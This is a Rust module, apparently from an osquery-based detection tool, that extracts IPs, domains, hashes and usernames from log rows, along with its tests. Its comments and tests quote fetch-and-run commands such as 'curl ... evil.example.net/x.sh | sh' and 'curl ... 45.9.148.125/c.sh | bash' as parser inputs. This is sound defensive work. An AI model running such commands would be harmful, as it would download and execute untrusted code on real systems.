//! Observables (IPs, domains, hashes, users) pulled out of a row's columns.
//!
//! osquery has hundreds of tables and no common schema, so responders pivot on these
//! lists instead of knowing that `socket_events` says `remote_address` while `last`
//! says `host`. Extraction goes by column name first (cheap, and it avoids treating any
//! 32-hex-digit string as an MD5) and then validates the value's shape.
//!
//! URLs are the exception: the host of every URL in any column is a `domain` (or an `ip`),
//! wherever it is written (`curl -s http://evil.example.net/x.sh | sh` in a crontab
//! `command`, a `cmdline`, a launchd `program_arguments`), since a payload's source is the
//! observable a responder most wants from a command line. See [`push_url_hosts`] for what
//! counts as a URL.

use std::borrow::Cow;
use std::net::IpAddr;
use std::sync::LazyLock;

use memchr::memmem::Finder;

use crate::event::Indicators;
use crate::fields::Fields;

/// What every URL contains. Searched for once in a row's whole text
/// ([`Fields::values_containing`]), so a row without a URL (nearly every row) costs one
/// vectorized scan, not a search per value.
static SCHEME_SEPARATOR: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("://"));

/// Extracts indicators from a row's columns. Values that don't have the expected shape
/// for their column are ignored, never guessed at.
pub fn extract(columns: &Fields) -> Indicators {
    let mut out = Indicators::default();
    extract_into(columns, &mut out);
    out
}

/// [`extract`] into `out`, replacing what it held but keeping its lists' buffers (the
/// decoder refills recycled events).
pub fn extract_into(columns: &Fields, out: &mut Indicators) {
    out.clear();
    for (key, value) in columns.iter() {
        // Most columns are no indicator: decide by name before looking at the value, and
        // by its last byte before comparing it with any name.
        if !may_classify(key) {
            continue;
        }
        // osquery's column names are lowercase already, so this rarely allocates.
        let key = if key.bytes().any(|b| b.is_ascii_uppercase()) {
            Cow::Owned(key.to_ascii_lowercase())
        } else {
            Cow::Borrowed(key)
        };
        let Some(class) = classify(&key) else {
            continue;
        };
        let Some(text) = value.as_str() else { continue };
        let text = text.trim();
        if text.is_empty() || text == "null" {
            continue;
        }
        match class {
            Class::Address => {
                if let Some(ip) = observable_ip(text) {
                    push_ip(&mut out.ip, ip);
                }
            }
            Class::Host => match observable_ip(text) {
                Some(ip) => push_ip(&mut out.ip, ip),
                None if is_domain(text) => push(&mut out.domain, text.to_ascii_lowercase()),
                None => {}
            },
            Class::Hash if text.bytes().all(|b| b.is_ascii_hexdigit()) => {
                let list = match text.len() {
                    32 => &mut out.md5,
                    40 => &mut out.sha1,
                    64 => &mut out.sha256,
                    _ => continue,
                };
                push(list, text.to_ascii_lowercase());
            }
            Class::User if !text.bytes().all(|b| b.is_ascii_digit()) => {
                push(&mut out.user, text.to_string());
            }
            Class::Hash | Class::User => {}
        }
    }
    // Nested values are searched as their JSON text: a URL's host holds no character that
    // JSON escapes, and the quote that ends a JSON string ends the host too.
    for text in columns.values_containing(&SCHEME_SEPARATOR) {
        push_url_hosts(text, out);
    }
}

enum Class {
    Address,
    Host,
    Hash,
    User,
}

/// Whether `classify` can accept `key` (any case), by its last byte: every name it accepts
/// ends in one of these, lowercased. Many column names (`pid`, `cmdline`, `port`...) are
/// turned away here, before they are compared with the known names.
fn may_classify(key: &str) -> bool {
    // `| 0x20` lowercases an ASCII letter and leaves the digits as they are; other bytes
    // it maps into the set only let a name through to the full check.
    key.as_bytes().last().is_some_and(|b| {
        matches!(
            b | 0x20,
            b's' | b'p' | b't' | b'e' | b'n' | b'r' | b'5' | b'1' | b'6' | b'h'
        )
    })
}

fn classify(key: &str) -> Option<Class> {
    let class = by_name(key)?;
    // `mac_address`, `ether_address`: hardware addresses, not IPs.
    (!key.contains("mac") && !key.contains("ether")).then_some(class)
}

fn by_name(key: &str) -> Option<Class> {
    match key {
        "host" | "remote_host" | "hostname_remote" | "domain" | "fqdn" | "server_name" => {
            Some(Class::Host)
        }
        "user" | "username" | "user_name" | "login" | "account" => Some(Class::User),
        "md5" | "sha1" | "sha256" | "hash" => Some(Class::Hash),
        // `url` columns need no name: their URLs are found with everyone else's.
        _ if key.ends_with("address") || key == "ip" || key.ends_with("_ip") => {
            Some(Class::Address)
        }
        _ if key.ends_with("_md5") || key.ends_with("_sha1") || key.ends_with("_sha256") => {
            Some(Class::Hash)
        }
        _ => None,
    }
}

/// An IP address as osquery's columns and login records write it, or `None`. The one
/// reader of IPs in column values, for indicators and `derived.remote_outside_office`.
///
/// - IPv4 (`10.0.0.5`) and IPv6 (`2001:db8::5`), as the standard library reads them (so
///   `010.0.0.5` and other non-canonical IPv4 spellings are not addresses);
/// - an IPv6 zone (`fe80::1%en0`, as interface and listening addresses carry it) is
///   dropped: it names one of the host's own interfaces, not a different address. Only
///   IPv6 has zones, so `10.0.0.5%en0` is no address;
/// - a port (`10.0.0.5:22`, `[2001:db8::5]:22`, as a peer is written in some login
///   records) is dropped. IPv6 takes one only in brackets, since `::1:22` is an address,
///   and brackets hold only IPv6 (RFC 3986);
/// - an IPv4-mapped IPv6 address (`::ffff:10.0.0.1`, an IPv4 peer of a dual-stack socket)
///   is that IPv4 address, so it meets office networks and indicator lists written in IPv4.
///
/// Returns the address with the text it was read from (brackets, zone and port removed).
pub(crate) fn parse_ip(text: &str) -> Option<(IpAddr, &str)> {
    let text = text.trim();
    let (ip, written) = if let Some(rest) = text.strip_prefix('[') {
        let (inside, after) = rest.split_once(']')?;
        if !(after.is_empty() || after.strip_prefix(':').is_some_and(is_port)) {
            return None;
        }
        let (ip, written) = address(inside)?;
        (ip.is_ipv6().then_some(ip)?, written)
    } else if let Some(found) = address(text) {
        found
    } else {
        let (host, port) = text.rsplit_once(':')?;
        let ip: std::net::Ipv4Addr = host.parse().ok()?;
        (is_port(port).then_some(IpAddr::V4(ip))?, host)
    };
    let ip = match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    };
    Some((ip, written))
}

/// An address alone, an IPv6 one perhaps with its zone; returns the text without the zone.
fn address(text: &str) -> Option<(IpAddr, &str)> {
    match text.split_once('%') {
        None => Some((text.parse().ok()?, text)),
        Some((addr, zone)) => {
            let ip: IpAddr = addr.parse().ok()?;
            (ip.is_ipv6() && !zone.is_empty()).then_some((ip, addr))
        }
    }
}

/// A TCP/UDP port number in decimal digits (no sign, at most 65535).
fn is_port(text: &str) -> bool {
    (1..=5).contains(&text.len())
        && text.bytes().all(|b| b.is_ascii_digit())
        && text.parse::<u32>().is_ok_and(|p| p <= 65_535)
}

/// An observable IP: the unspecified address (`0.0.0.0`, `::`) means "any", not a peer.
fn observable_ip(text: &str) -> Option<(IpAddr, &str)> {
    parse_ip(text).filter(|(ip, _)| !ip.is_unspecified())
}

/// IPs are kept in their canonical text. An IPv4 address written as one (no `:`: not
/// mapped, no port) is already in it, since the parser rejects leading zeros and other
/// spellings, which saves formatting one or two addresses per socket row; IPv6 has many
/// spellings, and a mapped address becomes its IPv4 form, so those are formatted.
fn push_ip(list: &mut Vec<String>, (ip, written): (IpAddr, &str)) {
    match ip {
        IpAddr::V4(_) if !written.contains(':') => push(list, written.to_owned()),
        _ => push(list, ip.to_string()),
    }
}

fn push(list: &mut Vec<String>, value: String) {
    if !list.contains(&value) {
        list.push(value);
    }
}

/// A hostname as it appears in logs: labels of letters, digits, `-` and `_`, at least one
/// letter. Rejects tty-like `last` hosts such as `:0` or `tmux(1234).%0`.
fn is_domain(text: &str) -> bool {
    text.len() <= 253
        && text.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
        && text.bytes().any(|b| b.is_ascii_alphabetic())
}

/// Adds the host of every URL in `text`: an `ip` for an IP literal (IPv6 without its
/// brackets), else a `domain`, lower-cased and without a trailing dot; userinfo, port, path,
/// query and fragment are no part of it.
///
/// A URL here is `scheme://authority`, the scheme being the letters, digits, `+`, `-` and `.`
/// right before `://` (from its first letter) and the authority what follows up to a `/`,
/// `?`, `#`, `\`, blank, quote or shell punctuation (`|;&()<>{}` and the like), so that a
/// URL ends where a command line moves on. The host is read as a browser reads it (WHATWG:
/// percent-decoded, IDNA to ASCII, `0x7f.1` and `2130706433` are IPv4), then must be an IP
/// or a name of letters, digits, `-` and `_` labels with a letter somewhere.
///
/// For schemes whose authority is always a network host ([`HOST_SCHEMES`]: `http`, `https`,
/// `ftp`, `ssh`, `socks5h`, ...) any such host counts, one-label names (`http://intranet/`)
/// included. Other schemes (`s3://`, `gs://`, `file://`, `jdbc:mysql://`, made-up ones) may
/// name something else (`s3://bucket/key` names a bucket), so there a host counts only when it
/// is an IP or looks like a DNS name: two labels or more, the last alphabetic
/// (`s3://logs.example.com/x` does, `s3://acme-backups/x` does not). `file:///path` has an
/// empty host and gives nothing, as does garbage: `http://` alone, a port that is not a
/// number up to 65535, characters no host has, an unspecified address (`0.0.0.0`).
fn push_url_hosts(text: &str, out: &mut Indicators) {
    for at in SCHEME_SEPARATOR.find_iter(text.as_bytes()) {
        let Some(scheme) = scheme_before(&text[..at]) else {
            continue;
        };
        let rest = &text[at + 3..];
        let end = rest.find(ends_authority).unwrap_or(rest.len());
        let Some(host) = authority_host(&rest[..end]) else {
            continue;
        };
        let Ok(host) = url::Host::parse(host) else {
            continue;
        };
        let always_host = HOST_SCHEMES.iter().any(|h| h.eq_ignore_ascii_case(scheme));
        match host {
            url::Host::Ipv4(ip) if !ip.is_unspecified() => {
                push(&mut out.ip, ip.to_string());
            }
            url::Host::Ipv6(ip) if !ip.is_unspecified() => {
                push(&mut out.ip, ip.to_string());
            }
            url::Host::Domain(name) => {
                let name = name.strip_suffix('.').unwrap_or(&name);
                if is_domain(name) && (always_host || looks_like_dns_name(name)) {
                    // WHATWG parsing lower-cases ASCII already.
                    push(&mut out.domain, name.to_owned());
                }
            }
            url::Host::Ipv4(_) | url::Host::Ipv6(_) => {}
        }
    }
}

/// Schemes whose authority is always a network host (see [`push_url_hosts`]): the web, file
/// transfer, remote shells and directories, and the proxies `curl -x` takes.
const HOST_SCHEMES: &[&str] = &[
    "http", "https", "ftp", "ftps", "sftp", "tftp", "ws", "wss", "ssh", "telnet", "smb", "ldap",
    "ldaps", "git", "rsync", "irc", "ircs", "socks4", "socks4a", "socks5", "socks5h",
];

/// The scheme that ends `before` (the text up to a `://`): its trailing run of scheme
/// characters from the first letter, as RFC 3986 has schemes start with one.
fn scheme_before(before: &str) -> Option<&str> {
    let run = before
        .bytes()
        .rev()
        .take_while(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        .count();
    let run = &before[before.len() - run..];
    let first_letter = run.find(|c: char| c.is_ascii_alphabetic())?;
    Some(&run[first_letter..])
}

/// Whether `c` ends a URL's authority: where the path, query or fragment starts (`\` too, as
/// browsers read it after `http:`), or where a command line, quoted string or markup goes on.
fn ends_authority(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '/' | '?'
                | '#'
                | '\\'
                | '"'
                | '\''
                | '`'
                | '<'
                | '>'
                | '|'
                | ';'
                | '&'
                | '('
                | ')'
                | '{'
                | '}'
                | ','
                | '^'
                | '*'
        )
}

/// The host in an authority (`user:pass@host:port`): `None` for an empty host or a port that
/// is not a number up to 65535. IPv6 literals keep their brackets, which the host parser
/// expects.
fn authority_host(authority: &str) -> Option<&str> {
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let (host, port) = if host_port.starts_with('[') {
        let close = host_port.find(']')?;
        let (host, after) = host_port.split_at(close + 1);
        (
            host,
            after.strip_prefix(':').or(after.is_empty().then_some(""))?,
        )
    } else {
        host_port.split_once(':').unwrap_or((host_port, ""))
    };
    let port_ok = port.is_empty()
        || (port.bytes().all(|b| b.is_ascii_digit()) && port.parse::<u16>().is_ok());
    (!host.is_empty() && port_ok).then_some(host)
}

/// A name as public DNS has them: two labels or more, the last (the TLD) letters only.
fn looks_like_dns_name(name: &str) -> bool {
    name.rsplit_once('.')
        .is_some_and(|(_, tld)| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::{json, Value};

    /// Names `classify` accepts, and near misses.
    const NAMES: &[&str] = &[
        "host",
        "remote_host",
        "hostname_remote",
        "domain",
        "fqdn",
        "server_name",
        "user",
        "username",
        "user_name",
        "login",
        "account",
        "md5",
        "sha1",
        "sha256",
        "hash",
        "url",
        "address",
        "local_address",
        "mac_address",
        "ip",
        "src_ip",
        "_ip",
        "x_url",
        "file_md5",
        "a_sha1",
        "b_sha256",
        "pid",
        "path",
        "cmdline",
        "hosts",
        "urls",
        "sha",
        "",
        "p",
    ];

    proptest! {
        #[test]
        fn the_last_byte_filter_turns_away_no_name_classify_accepts(
            pick in 0..NAMES.len(),
            prefix in "[a-zA-Z_]{0,3}",
            upper in any::<u64>(),
            random in "\\PC{0,12}",
        ) {
            let with_case = |name: &str| -> String {
                name.chars()
                    .enumerate()
                    .map(|(i, c)| if upper >> (i % 64) & 1 == 1 { c.to_ascii_uppercase() } else { c })
                    .collect()
            };
            for key in [
                NAMES[pick].to_string(),
                format!("{prefix}{}", NAMES[pick]),
                with_case(NAMES[pick]),
                with_case(&format!("{prefix}{}", NAMES[pick])),
                random.clone(),
                with_case(&random),
            ] {
                if classify(&key.to_ascii_lowercase()).is_some() {
                    prop_assert!(may_classify(&key), "{key:?}");
                }
            }
        }
    }

    /// The domains and IPs of one column's value.
    fn urls(value: &str) -> (Vec<String>, Vec<String>) {
        let i = extract(&cols(json!({ "command": value })));
        (i.domain, i.ip)
    }

    fn domains(value: &str) -> Vec<String> {
        let (domains, ips) = urls(value);
        assert!(ips.is_empty(), "{value}: {ips:?}");
        domains
    }

    fn ips(value: &str) -> Vec<String> {
        let (domains, ips) = urls(value);
        assert!(domains.is_empty(), "{value}: {domains:?}");
        ips
    }

    #[test]
    fn url_hosts_in_command_lines() {
        assert_eq!(
            domains("curl -s http://evil.example.net/x.sh | sh"),
            ["evil.example.net"]
        );
        assert_eq!(ips("wget -qO- https://1.2.3.4:8443/a"), ["1.2.3.4"]);
        assert_eq!(
            domains(r#"bash -c "$(curl -fsSL https://raw.githubusercontent.com/x/y/z.sh)""#),
            ["raw.githubusercontent.com"]
        );
        // Userinfo and port are no part of the host; case and a trailing dot neither.
        assert_eq!(
            domains("curl ftp://backup:s3cr3t@Files.Example.COM.:2121/pub/x.tgz -o /tmp/x"),
            ["files.example.com"]
        );
        assert_eq!(
            domains("curl 'https://user@evil.example.net:443?q=1#frag'"),
            ["evil.example.net"]
        );
        // IPv6 literals lose their brackets and take their canonical form.
        assert_eq!(
            ips("curl -g 'http://[2001:DB8:0::1]:8080/p' && nc [::1] 80"),
            ["2001:db8::1"]
        );
        // Several URLs, each host once, in order.
        assert_eq!(
            domains(
                "curl http://a.example.com/1 && wget https://b.example.org/2;\
                 curl http://A.example.com/3|sh"
            ),
            ["a.example.com", "b.example.org"]
        );
        let (d, i) = urls("python3 -c 'import urllib.request as u; u.urlopen(\"http://198.51.100.7/p\")' # see https://docs.example.org/");
        assert_eq!(
            (d, i),
            (
                vec!["docs.example.org".to_string()],
                vec!["198.51.100.7".to_string()]
            )
        );
        // No URL.
        assert_eq!(
            urls("/usr/sbin/logrotate /etc/logrotate.conf"),
            (vec![], vec![])
        );
        assert_eq!(
            urls("curl -fsSL 45.9.148.125/c.sh | bash"),
            (vec![], vec![])
        );
    }

    #[test]
    fn url_hosts_as_a_browser_reads_them() {
        // Numeric IPv4 forms, as obfuscated download URLs use them.
        assert_eq!(ips("curl http://0x7f.1/x"), ["127.0.0.1"]);
        assert_eq!(ips("curl http://2130706433/x"), ["127.0.0.1"]);
        // Percent-encoding and IDNA.
        assert_eq!(
            domains("curl http://evil%2Eexample.net/"),
            ["evil.example.net"]
        );
        assert_eq!(domains("curl http://BÜCHER.de/"), ["xn--bcher-kva.de"]);
        // `\` starts the path, as after http: in a browser.
        assert_eq!(domains(r"http://evil.example.net\x"), ["evil.example.net"]);
    }

    #[test]
    fn schemes_that_do_not_always_name_a_host() {
        // One-label names count where the scheme always names a host...
        assert_eq!(domains("curl http://intranet:8080/x"), ["intranet"]);
        assert_eq!(
            domains("curl -x socks5h://proxy:1080 http://x.example.com/"),
            ["proxy", "x.example.com"]
        );
        assert_eq!(
            domains("git clone ssh://git@github.com:22/o/r.git"),
            ["github.com"]
        );
        // ...elsewhere only a DNS-like name or an IP does.
        assert_eq!(
            urls("aws s3 cp s3://acme-prod-backups/db.sql.gz /tmp/"),
            (vec![], vec![])
        );
        assert_eq!(
            domains("aws s3 cp s3://logs.example.com/x ."),
            ["logs.example.com"]
        );
        assert_eq!(
            domains("jdbc:mysql://db.example.com:3306/app"),
            ["db.example.com"]
        );
        assert_eq!(ips("gs://10.0.0.9/b"), ["10.0.0.9"]);
        assert_eq!(urls("myapp://settings/x.y"), (vec![], vec![]));
        // file:/// has no host.
        assert_eq!(
            urls("cat file:///etc/passwd file://localhost/etc/hosts"),
            (vec![], vec![])
        );
    }

    #[test]
    fn url_garbage_is_ignored() {
        for value in [
            "http://",
            "http:// evil.example.net",
            "://evil.example.net",
            "123://evil.example.net",
            "http://ev!l.example.net/",
            "http://evil.example.net:99999/",
            "http://evil.example.net:8o/",
            "http://user@/x",
            "http://[2001:db8::1/",
            "http://[2001:db8::1]x/",
            "http://[not-v6]/",
            "http://0.0.0.0:8000/",
            "http://[::]:80/",
            "http://..",
            "http://-/",
            "http://%zz/",
            "http://1.2.3.4.5/",
            "http://evil.1/",
        ] {
            assert_eq!(urls(value), (vec![], vec![]), "{value}");
        }
    }

    #[test]
    fn urls_count_in_any_column_and_any_json_form() {
        // A `url` column, a command line, a nested value, escaped slashes (as osquery's
        // Firehose logger writes them): the decoded text is what is searched.
        let row: Fields = serde_json::from_str(
            r#"{"args": ["sh", "-c", "curl http://nested.example.com/x"],
                "cmdline": "curl http:\/\/escaped.example.com\/x.sh",
                "url": "https://EVIL.example.net:8443/x?y",
                "host": "evil.example.net"}"#,
        )
        .unwrap();
        let i = extract(&row);
        // Named columns' hosts first, then URL hosts in column order, each host once.
        assert_eq!(
            i.domain,
            [
                "evil.example.net",
                "nested.example.com",
                "escaped.example.com"
            ]
        );
        // `://` across a name and its value is no URL.
        let i = extract(&cols(json!({"a:": "//evil.example.net", "b": "x"})));
        assert!(i.is_empty(), "{i:?}");
    }

    proptest! {
        /// Any text, and text made of URL parts, never panics, and what comes out has the
        /// shape the lists promise.
        #[test]
        fn url_extraction_never_panics(
            random in "\\PC{0,80}",
            parts in proptest::collection::vec(
                "://|http|s3|[a-zA-Z0-9]{1,8}|\\.|@|:|\\[|\\]|/|%[0-9a-fA-F]{2}|%|[ \"'|;]|\\PC",
                0..40,
            ),
        ) {
            for text in [random.clone(), parts.concat(), format!("{random}{}", parts.concat())] {
                let (domains, ips) = urls(&text);
                for d in &domains {
                    prop_assert!(is_domain(d), "{d:?} from {text:?}");
                    prop_assert_eq!(d, &d.to_ascii_lowercase());
                }
                for ip in &ips {
                    let parsed: IpAddr = ip.parse().unwrap();
                    prop_assert_eq!(ip, &parsed.to_string());
                }
                if !text.contains("://") {
                    prop_assert!(domains.is_empty() && ips.is_empty());
                }
            }
        }
    }

    #[test]
    fn parse_ip_reads_what_osquery_writes() {
        let read = |text: &str| parse_ip(text).map(|(ip, _)| ip.to_string());
        for (text, want) in [
            ("10.0.0.5", Some("10.0.0.5")),
            (" 10.0.0.5 ", Some("10.0.0.5")),
            ("2001:DB8::5", Some("2001:db8::5")),
            ("fe80::1%en0", Some("fe80::1")),
            ("fe80::1%25", Some("fe80::1")),
            ("[2001:db8::5]", Some("2001:db8::5")),
            ("[fe80::1%en0]", Some("fe80::1")),
            ("[fe80::1%en0]:22", Some("fe80::1")),
            ("[2001:db8::5]:22", Some("2001:db8::5")),
            ("10.0.0.5:22", Some("10.0.0.5")),
            ("10.0.0.5:65535", Some("10.0.0.5")),
            ("::ffff:10.0.0.1", Some("10.0.0.1")),
            ("[::ffff:10.0.0.1]:443", Some("10.0.0.1")),
            // An IPv6 address may end in what looks like a port: it is part of it.
            ("::1:22", Some("::1:22")),
            ("::", Some("::")),
            ("0.0.0.0", Some("0.0.0.0")),
            // IPv4-compatible (deprecated) addresses are IPv6, not mapped.
            ("::10.0.0.1", Some("::a00:1")),
            ("010.0.0.5", None),
            ("10.0.0.5%en0", None),
            ("fe80::1%", None),
            ("[10.0.0.5]", None),
            ("[10.0.0.5]:22", None),
            ("[2001:db8::5]x", None),
            ("[2001:db8::5]:", None),
            ("[2001:db8::5", None),
            ("10.0.0.5:", None),
            ("10.0.0.5:+22", None),
            ("10.0.0.5:65536", None),
            ("10.0.0.5:022222", None),
            ("2001:db8::5:99999", None),
            ("vpn.example.com", None),
            ("vpn.example.com:22", None),
            (":0", None),
            ("", None),
        ] {
            assert_eq!(read(text).as_deref(), want, "{text:?}");
        }
    }

    #[test]
    fn parse_ip_returns_the_address_as_written() {
        for (text, written) in [
            ("10.0.0.5:22", "10.0.0.5"),
            ("[fe80::1%en0]:22", "fe80::1"),
            ("::ffff:10.0.0.1", "::ffff:10.0.0.1"),
        ] {
            assert_eq!(parse_ip(text).unwrap().1, written);
        }
    }

    proptest! {
        #[test]
        fn parse_ip_reads_every_address_it_is_given_and_never_panics(
            ip in any::<IpAddr>(),
            port in any::<u16>(),
            zone in "[a-z0-9]{1,8}",
            junk in "\\PC{0,40}",
        ) {
            let _ = parse_ip(&junk);
            let want = match ip {
                IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
                v4 => v4,
            };
            let mut spellings = vec![ip.to_string()];
            match ip {
                IpAddr::V4(_) => spellings.push(format!("{ip}:{port}")),
                IpAddr::V6(_) => spellings.extend([
                    format!("[{ip}]"),
                    format!("[{ip}]:{port}"),
                    format!("{ip}%{zone}"),
                    format!("[{ip}%{zone}]:{port}"),
                ]),
            }
            for text in spellings {
                prop_assert_eq!(parse_ip(&text).map(|(ip, _)| ip), Some(want), "{}", text);
            }
        }
    }

    #[test]
    fn ips_are_kept_in_canonical_text() {
        let i = extract(&cols(json!({
            "remote_address": "10.0.0.1",
            "local_address": "FE80:0:0:0:0:0:0:1%en0",
            "address": "[::FFFF:1.2.3.4]",
            "ip": "010.0.0.1",
        })));
        for ip in &i.ip {
            assert_eq!(ip, &ip.parse::<IpAddr>().unwrap().to_string());
        }
        assert_eq!(i.ip.len(), 3, "{:?}", i.ip);
    }

    fn cols(v: Value) -> Fields {
        v.as_object().unwrap().into()
    }

    #[test]
    fn addresses_hosts_and_urls() {
        let i = extract(&cols(json!({
            "remote_address": "203.0.113.7",
            "local_address": "0.0.0.0",
            "address": "fe80::1%en0",
            "host": "vpn.example.com",
            "mac_address": "00:11:22:33:44:55",
            "url": "https://evil.example.net:8443/x?y",
            "remote_port": "443"
        })));
        // Column order (sorted by name), not value order.
        assert_eq!(i.ip, vec!["fe80::1", "203.0.113.7"]);
        assert_eq!(i.domain, vec!["vpn.example.com", "evil.example.net"]);
    }

    #[test]
    fn non_ip_host_goes_to_domain_and_tty_hosts_are_ignored() {
        let i = extract(&cols(json!({"host": "Laptop-7"})));
        assert_eq!(i.domain, vec!["laptop-7"]);
        let i = extract(&cols(json!({"host": ":0"})));
        assert!(i.is_empty());
        let i = extract(&cols(json!({"host": "10.1.2.3"})));
        assert_eq!(i.ip, vec!["10.1.2.3"]);
    }

    #[test]
    fn hashes_by_name_and_shape() {
        let i = extract(&cols(json!({
            "md5": "D41D8CD98F00B204E9800998ECF8427E",
            "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "hash": "not-a-hash",
            "uuid": "d41d8cd98f00b204e9800998ecf8427e"
        })));
        assert_eq!(i.md5, vec!["d41d8cd98f00b204e9800998ecf8427e"]);
        assert_eq!(i.sha1.len(), 1);
        assert_eq!(i.sha256.len(), 1);
    }

    #[test]
    fn users_are_deduplicated_and_numeric_ids_skipped() {
        let i = extract(&cols(
            json!({"username": "alice", "user": "alice", "login": "1001"}),
        ));
        assert_eq!(i.user, vec!["alice"]);
    }

    #[test]
    fn numbers_and_nulls_are_ignored() {
        let i = extract(&cols(
            json!({"remote_address": 5, "host": null, "user": "null"}),
        ));
        assert!(i.is_empty());
    }
}
